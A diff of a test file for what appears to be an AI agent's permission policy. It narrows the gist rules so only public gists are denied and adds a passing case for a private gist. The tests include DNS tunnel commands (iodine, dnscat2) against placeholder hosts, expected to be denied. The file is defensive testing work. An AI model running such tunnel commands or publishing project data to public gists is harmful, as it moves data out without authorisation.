@@ -150,13 +150,14 @@ test("people's records leaving by a fetch or an MCP message are asked; tables of
   expectCall('mcp', { tool: 'google_drive_upload', local_path: '/home/dev/project/docs/architecture.pdf' }, 'pass');
 });
 
-test('gists from MCP tools and the gists API are denied as gh gist create is; tunnel clients are denied', () => {
+test('public gists from MCP tools and the gists API are denied as gh gist create --public is; tunnel clients are denied', () => {
   expectCall('mcp', { tool: 'create_gist', public: true, files: { 'a.ini': { content: 'x' } } }, 'deny');
   expectCall(
     'fetch',
-    { url: 'https://api.github.com/gists', method: 'POST', body: '{"files":{"a":{"content":"x"}}}' },
+    { url: 'https://api.github.com/gists', method: 'POST', body: '{"public": true, "files":{"a":{"content":"x"}}}' },
     'deny',
   );
+  expectCall('mcp', { tool: 'create_gist', files: { 'notes.md': { content: '# notes' } } }, 'pass');
   expectCall('fetch', { url: 'https://api.github.com/gists/abc123', method: 'GET' }, 'pass');
   expectExec('iodine -f -P pw 198.51.100.53 t.example-tun.net', 'deny');
   expectExec('dnscat2 --dns server=198.51.100.53,domain=c.example-dns.net', 'deny');
